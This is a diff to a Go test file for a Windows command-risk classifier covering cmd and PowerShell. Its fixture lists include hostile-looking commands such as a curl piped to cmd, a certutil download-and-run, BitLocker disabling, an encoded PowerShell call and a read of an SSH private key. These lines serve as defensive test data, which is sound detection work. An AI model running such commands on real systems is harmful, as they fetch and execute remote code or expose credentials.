@@ -36,7 +36,7 @@ func TestWindowsClasses(t *testing.T) {
 			`curl http://x | cmd`, `certutil -urlcache -f http://x y & cmd /c y`, `manage-bde -off c:`,
 		}},
 		{Cmd, Moderate, []string{
-			`copy a b`, `move a b`, `ren a b`, `md x`, `rd x`, `attrib +r x`, `attrib -r x`, `attrib -s x`, `nosuch`, `C:\tmp\whoami.exe`, `.\findstr x y`, `dir > x`, `dir %TMP%`, `dir !x!`,
+			`copy a b`, `move a b`, `ren a b`, `md x`, `rd x`, `attrib +r x`, `attrib -r x`, `attrib -s x`, `nosuch`, `C:\tmp\whoami.exe`, `.\findstr x y`, `dir > x`, `dir %TMP%`, `dir "%TMP%"`, `dir !x!`,
 			`dir (x)`, `echo ^x`, `curl http://x`, `wget x`, `ssh h`, `sort /o x y`, `sort x /output y`, `sort x /out y`, `ipconfig /release`, `ipconfig /rel`, `setx a b`, `reg add x`,
 			`taskkill /f /im x`, `set a=b`, `set /a x`, `set /p x`, `date 1-1-2020`, `path c:\x`, `shutdown /a`, `cmd`, `powershell`, `get-process`, `ls`, `cat x`,
 			`start notepad`, `timeout 5`, `ping -t x`, `git push`, `kubectl delete pod x`, `type \\.\pipe\x`, `net config server /autodisconnect:1`, `gpresult /h x`,
@@ -61,7 +61,7 @@ rm y`, "echo 'a\nb'; rm y", "echo 'unfinished\nrm y", "ls `\n; rm y", `sudo rm x
 			`powershell -enc AAAA`, `Set-Acl x`, `"x" > C:\Windows\x`,
 		}},
 		{PowerShell, Moderate, []string{
-			`Get-Nosuch`, `nosuch`, `./x.ps1`, `. ./x.ps1`, `New-Item x`, `md x`, `Set-Content x y`, `ls > x`, `ls $x`, `ls "$x"`, "ls \"`n\"", `ls | ? { $_.x }`, `Get-Process | % Name`, `Invoke-WebRequest http://x`, `iwr http://x`,
+			`Get-Nosuch`, `nosuch`, `./x.ps1`, `. ./x.ps1`, `New-Item x`, `md x`, `Set-Content x y`, `ls > x`, `ls $x`, `ls "$x"`, "ls \"a`tb\"", "ls \"`n\"", `ls | ? { $_.x }`, `Get-Process | % Name`, `Invoke-WebRequest http://x`, `iwr http://x`,
 			`Get-Process @x`, `[x]::y()`, `Copy-Item a b`, `Start-Sleep 5`, `sl $home`, `ls --% x`, `ls < x`, `Get-Help x -Online`, `help x -on`, `git commit -m x`, `sc x y`, `iex x`, `ver`, `ls # x`, `gc 'x`, `.`, `,x`, `ps 2>`,
 			`Start-Process notepad`, `.\Get-Process x`, `gc \\.\pipe\x`, `Invoke-Command x`, `foo$x`,
 		}},
@@ -98,6 +98,12 @@ func TestWindowsReports(t *testing.T) {
 			{"type", "", []string{`C:\Users\x\.ssh\id_rsa`}, Safe, readOnly},
 		}},
 		"": {Safe, 1, []string{nothing}, []string{}, []Component{}},
+		"reg /x query y": {Safe, 1, []string{readOnly}, []string{}, []Component{
+			{"reg", "", []string{"/x", "query", "y"}, Safe, readOnly},
+		}},
+		"git -C x status": {Safe, 1, []string{readOnly}, []string{}, []Component{
+			{"git", "", []string{"-C", "x", "status"}, Safe, readOnly},
+		}},
 	} {
 		if diff := cmp.Diff(want, Windows(line, Cmd)); diff != "" {
 			t.Errorf("%q (-want +got):\n%s", line, diff)
@@ -114,6 +120,18 @@ func TestWindowsFactors(t *testing.T) {
 		if got := Windows(line, PowerShell); !slices.Contains(got.Factors, want) || got.Tier < 2 && want != FactorSensitive {
 			t.Errorf("%.40q: %+v, want factor %s", line, got, want)
 		}
+	}
+}
+
+// Quoted for another shell the line may be too long for it.
+func TestWindowsLongLines(t *testing.T) {
+	line := "nosuch" + strings.Repeat(" a", 30000)
+	got := Windows(line, Cmd)
+	if got.Class != Moderate || got.Components[0].Reason != "unknown command: nosuch" {
+		t.Errorf("%v %q", got.Class, got.Reasons)
+	}
+	if got := Windows(`"" x`, PowerShell); got.Class != Moderate {
+		t.Errorf("a program without a name: %+v", got)
 	}
 }
 
